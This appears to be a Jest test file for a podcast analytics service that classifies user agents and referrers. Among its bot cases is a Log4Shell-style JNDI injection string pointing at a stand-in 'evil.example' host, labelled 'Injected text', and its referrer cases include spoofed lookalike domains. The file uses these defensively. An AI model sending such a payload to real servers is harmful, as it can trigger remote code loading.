import { describe, expect, test } from '@jest/globals';
import { prepareLists } from '../../../application/prepare-lists.js';
import { classifyAgent } from '../classify-agent.js';
import { classifyReferrer } from '../classify-referrer.js';
import { BUILT_IN_LISTS } from './built-in-lists.js';

const { rules } = prepareLists(BUILT_IN_LISTS);
const NOW = Date.UTC(2026, 9, 12);
const classify = (agent: string) => classifyAgent(agent, rules, NOW);

const SAFARI = 'AppleWebKit/605.1.15 (KHTML, like Gecko)';
const IPHONE = `Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) ${SAFARI}`;
const IPAD = `Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) ${SAFARI}`;
const MAC = `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)`;
const PIXEL = 'Mozilla/5.0 (Linux; Android 16; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko)';
const APPLE = 'CFNetwork/3826.600.41 Darwin/24.6.0';

describe('apps', () => {
  test.each([
    [`Podcasts/4200.5 ${APPLE}`, 'Apple Podcasts', 'Apple iPhone'],
    [`Podcasts/1700.1 CFNetwork/1399 Darwin/22.1.0 (x86_64)`, 'Apple Podcasts', 'Apple Computer'],
    [`Подкасты/4200.5 ${APPLE}`, 'Apple Podcasts', 'Apple iPhone'],
    [`${encodeURIComponent('ポッドキャスト')}/4200.5 ${APPLE}`, 'Apple Podcasts', 'Apple iPhone'],
    ['iTunes/12.12 (Windows; Microsoft Windows 10 x64) AppleWebKit/7613', 'iTunes', 'Windows Computer'],
    ['Spotify/8.9.70 Android/34 (Pixel 8)', 'Spotify', 'Android Phone'],
    ['Spotify/9.0.2 iOS/18.1 (iPhone14,5)', 'Spotify', 'Apple iPhone'],
    ['Spotify/4.5.0 Polestar/31 (Polestar)', 'Spotify', 'Smart Car'],
    [`Overcast/900 ${APPLE}`, 'Overcast', 'Apple iPhone'],
    ['Overcast Player 70001', 'Overcast', null],
    ['Pocket Casts/8.0 (Android 15; SM-S921B)', 'Pocket Casts', 'Android Phone'],
    [
      `${MAC} ${SAFARI} PocketCasts/2.9.0 Chrome/140.0.1.2 Electron/39.0.0 Safari/537.36`,
      'Pocket Casts',
      'Apple Computer',
    ],
    ['PodcastAddict/v5 (+https://podcastaddict.com/) (Linux; Android 15)', 'Podcast Addict', 'Android Phone'],
    ['AntennaPod/3.9.9', 'AntennaPod', null],
    ['Castro 2026.1/2001', 'Castro', 'Other Mobile Device'],
    ['CastBox/11.0.1 (Linux;Android 15) ExoPlayerLib/2.19.1', 'CastBox', 'Android Phone'],
    ['Podverse/Android Mobile App', 'Podverse', 'Android Phone'],
    ['Podbean/Android App 9.0.0 (http://podbean.com),0123456789abcdef', 'Podbean', 'Android Phone'],
    ['Goodpods.iOS / 3.1.0', 'Goodpods', 'Apple iPhone'],
    ['Fountain/1.3.0 iOS https://www.fountain.fm', 'Fountain', 'Apple iPhone'],
    [`TrueFans/2.0 ${APPLE}`, 'TrueFans', 'Apple iPhone'],
    [`Gertrude%20Podcasts/30 ${APPLE}`, 'Gertrude Podcasts', 'Apple iPhone'],
    [
      'Castamatic/11.2 (com.gunpmedia.Castamatic; build:4000; iOS 18.1.0) Alamofire/5.9.0',
      'Castamatic',
      'Apple iPhone',
    ],
    ['gPodder/3.11.4 (+http://gpodder.org/) Linux/6.1.0', 'gPodder', 'Other Computer'],
    ['AmazonMusic/24.9.0 Android/14 (Pixel 7)', 'Amazon Music', 'Android Phone'],
    ['Amazon;Echo_Dot_5;00000000000000000000000000000000;;tpapi;3.300.1', 'Alexa', 'Amazon Smart Speaker'],
    ['Amazon;AFTKA;00000000000000000000000000000000;;tpapi;3.300.1', 'Fire TV', 'Other Smart TV'],
    [
      'Denon;HOME_150;00000000000000000000000000000000;;tpapi;3.300.1',
      'Alexa-enabled device',
      'Other Smart Speaker',
    ],
    ['AirPlay/2.1 (App/81.0.0) MFi_AirPlay_Device', 'AirPlay', 'Other Smart TV'],
    [
      'Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36',
      'LG TV',
      'Other Smart TV',
    ],
    ['Garmin fenix 8/20.1', 'Garmin', 'Other Watch'],
    ['iHeartRadio/10.50.0 (iPhone; iOS 18.2; iPhone15,2)', 'iHeartRadio', 'Apple iPhone'],
    [`${IPAD} Mobile/15E148 Pandora/2410.1`, 'Pandora', 'Apple iPad'],
    ['TuneIn Radio/33.1; iPhone13,2; iOS/17.0', 'TuneIn', 'Apple iPhone'],
    ['Deezer/7.0.30 (Android; 14; Mobile; fr) samsung SM-A546B', 'Deezer', 'Android Phone'],
    [`NPR/701 ${APPLE}`, 'NPR', 'Apple iPhone'],
    ['BBCSounds/2.30.0 (iPhone14,2; iOS 17.5) BBCHTTPClient/9', 'BBC Sounds', 'Apple iPhone'],
    ['LBC/100.0.0 Android 15/samsung SM-A556B', 'Global Player', 'Android Phone'],
    ['Times%20Radio/50.1 (Linux;Android 14) ExoPlayerLib/2.18.1', 'News UK Radio', 'Android Phone'],
    ['radio.de/5.20.0 (Linux; Android 15; de_DE) ExoPlayerLib/2.19.0', 'radio.net', 'Android Phone'],
    ['VLC/3.0.21 LibVLC/3.0.21', 'VLC', null],
    [`${IPHONE} Mobile/22G90 Instagram 400.0.0.1 (iPhone15,3; iOS 18_6)`, 'Instagram', 'Apple iPhone'],
    [`${IPHONE} Mobile/22G90 [FBAN/FBIOS;FBDV/iPhone15,3]`, 'Facebook', 'Apple iPhone'],
    [`${IPHONE} Mobile/22G90 [LinkedInApp]`, 'LinkedIn', 'Apple iPhone'],
    [`Tweetbot/53400 ${APPLE}`, 'Tweetbot', 'Apple iPhone'],
    [`Anything%20Else/12 ${APPLE}`, 'Other app on an Apple device', 'Apple iPhone'],
    [
      'Nobody FM/1.2 (fm.nobody.app; build:7; iOS 18.0.0) Alamofire/5.8.0',
      'Other app on an Apple device',
      'Apple iPhone',
    ],
    ['NobodyFM/3.1 (Android 15; SM-A556B)', 'Other app on an Android device', 'Android Phone'],
  ])('%s is %s on %s', (agent, name, device) => {
    expect(classify(agent)).toMatchObject({ kind: 'app', name, device });
  });
});

describe('bots', () => {
  test.each([
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot'],
    [
      `${IPHONE} Version/18.0 Mobile/15E148 Safari/604.1 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)`,
      'Bingbot',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://openai.com/gptbot)',
      'OpenAI',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)',
      'Anthropic',
    ],
    [
      `${PIXEL} Chrome/141.0.0.0 Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)`,
      'Bytespider',
    ],
    ['facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 'Facebook crawler'],
    ['Overcast/1.0 Podcast Sync (12 subscribers; feed-id=1; +http://overcast.fm/)', 'Podcast directory sync'],
    ['PodchaserParser/2.1 (https://podchaser.com)', 'Podchaser'],
    ['Podcastindex.org/1.0', 'Podcast Index'],
    ['Blubrry PowerPress/12.0', 'Blubrry'],
    ['op3-fetcher/2.0 (https://op3.dev)', 'OP3'],
    ['atc/1.0', 'Apple Podcasts (Watch)'],
    ['Spotify/1.0', 'Spotify ingestion'],
    ['Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)', 'Feedly fetcher'],
    ['Tiny Tiny RSS/24.1 (https://tt-rss.org/)', 'Tiny Tiny RSS'],
    ['Mozilla/5.0 (compatible; UptimeRobot/2.1; http://www.uptimerobot.com/)', 'UptimeRobot'],
    [`${MAC} ${SAFARI} HeadlessChrome/140.0.0.0 Safari/537.36`, 'Headless browser'],
    ['super-transcriber/0.3', 'Transcription service'],
    ['podcast-downloader/0.1', 'Podcast downloading script'],
    ['Mozilla/5.0', 'Name of a browser and nothing else'],
    ['Mozilla/5.0 (compatible; NobodyKnows/1.0)', 'Robot that calls itself compatible'],
    [
      'Mozilla/5.0 (compatible; NobodyKnows/1.0; +https://nobody.example/about)',
      'Robot that leaves an address',
    ],
    ['HarbourSpider/0.2 (+https://harbour.example)', 'Self-declared robot'],
    ['x${jndi:ldap://evil.example/a}', 'Injected text'],
  ])('%s is %s', (agent, name) => {
    expect(classify(agent)).toMatchObject({ kind: 'bot_agent', name, device: null });
  });
});

describe('libraries', () => {
  test.each([
    ['curl/8.9.1', 'bot_library', 'curl'],
    ['Wget/1.24.5', 'bot_library', 'Wget'],
    ['python-requests/2.32.3', 'bot_library', 'python-requests'],
    ['Go-http-client/1.1', 'bot_library', 'Go http client'],
    ['axios/1.7.7', 'bot_library', 'axios'],
    ['Java/21.0.4', 'bot_library', 'Java'],
    ['Apache-HttpClient/5.3 (Java/21)', 'bot_library', 'Apache HttpClient'],
    ['GuzzleHttp/7', 'bot_library', 'Guzzle'],
    ['Player/1.0 (Linux;Android 15) AndroidXMedia3/1.5.0', 'library', 'Jetpack Media3'],
    ['Player/1.0 (Linux;Android 12) ExoPlayerLib/2.18.7', 'library', 'ExoPlayer'],
    ['okhttp/4.12.0', 'library', 'OkHttp'],
    ['Dalvik/2.1.0 (Linux; U; Android 14; Pixel 7 Build/UQ1A)', 'library', 'Dalvik'],
    ['AppleCoreMedia/1.0.0.22G90 (iPhone; U; CPU OS 18_6 like Mac OS X; de_de)', 'library', 'AppleCoreMedia'],
    [`SafariViewService/8620.1 ${APPLE}`, 'library', 'Safari View Service'],
    ['Lavf/60.16.100', 'library', 'FFmpeg'],
  ])('%s is %s, %s', (agent, kind, name) => {
    expect(classify(agent)).toMatchObject({ kind, name });
  });
});

describe('browsers', () => {
  test.each([
    [`${MAC} ${SAFARI} Version/26.0 Safari/605.1.15`, 'Safari', 'Apple Computer'],
    [`${IPHONE} Version/18.6 Mobile/15E148 Safari/604.1`, 'Safari', 'Apple iPhone'],
    [`${IPHONE} Mobile/15E148`, 'iOS WebView', 'Apple iPhone'],
    [`${PIXEL} Chrome/141.0.0.0 Mobile Safari/537.36`, 'Chrome', 'Android Phone'],
    [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0',
      'Firefox',
      'Windows Computer',
    ],
    [`${IPHONE} FxiOS/143.0 Mobile/15E148 Safari/605.1.15`, 'Firefox', 'Apple iPhone'],
    [
      'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
      'Chrome',
      'Chromebook',
    ],
    [
      'Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.1.2',
      'Edge',
      'Windows Computer',
    ],
    [
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 OPR/120.0.0.0',
      'Opera',
      'Other Computer',
    ],
    [
      'Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36',
      'Samsung Internet',
      'Android Phone',
    ],
    [
      'Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko',
      'Internet Explorer',
      'Windows Computer',
    ],
    ['Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.0)', 'Internet Explorer', 'Windows Computer'],
  ])('%s is %s on %s', (agent, name, device) => {
    expect(classify(agent)).toMatchObject({ kind: 'browser', name, device });
  });
});

test.each([
  'WalkRadio/0.9 (walkradio.example)',
  'Pod"Quote/2.1 (café; build 7)',
  'Player/1.0 (CUBOT NOTE 20)',
  '???',
])('%s is unknown, and counts', (agent) => {
  expect(classify(agent).kind).toBe('unknown');
});

describe('referrers', () => {
  const referrer = (text: string) => classifyReferrer(text, rules, NOW);
  test.each([
    ['https://overcast.fm/+AbC', 'Overcast', 'app'],
    ['https://www.overcast.fm', 'Overcast', 'app'],
    ['https://music.amazon.co.uk/podcasts/1', 'Amazon Music', 'app'],
    ['https://open.spotify.com/episode/1', 'Spotify', 'app'],
    ['https://share.transistor.fm/e/1', 'Transistor', 'host'],
  ])('%s is %s (%s)', (text, name, category) => {
    expect(referrer(text)).toEqual({ name, category, isBad: false });
  });

  test.each([
    'https://notovercast.fm/',
    'https://overcast.fm.evil.example/',
    'https://x.example/?u=https://overcast.fm/',
  ])('%s is somebody else', (text) => {
    expect(referrer(text)).toEqual({ name: null, category: null, isBad: false });
  });
});

test('no name stands twice in a list', () => {
  for (const entries of Object.values(BUILT_IN_LISTS)) {
    expect(new Set(entries.map(({ name }) => name)).size).toBe(entries.length);
  }
});
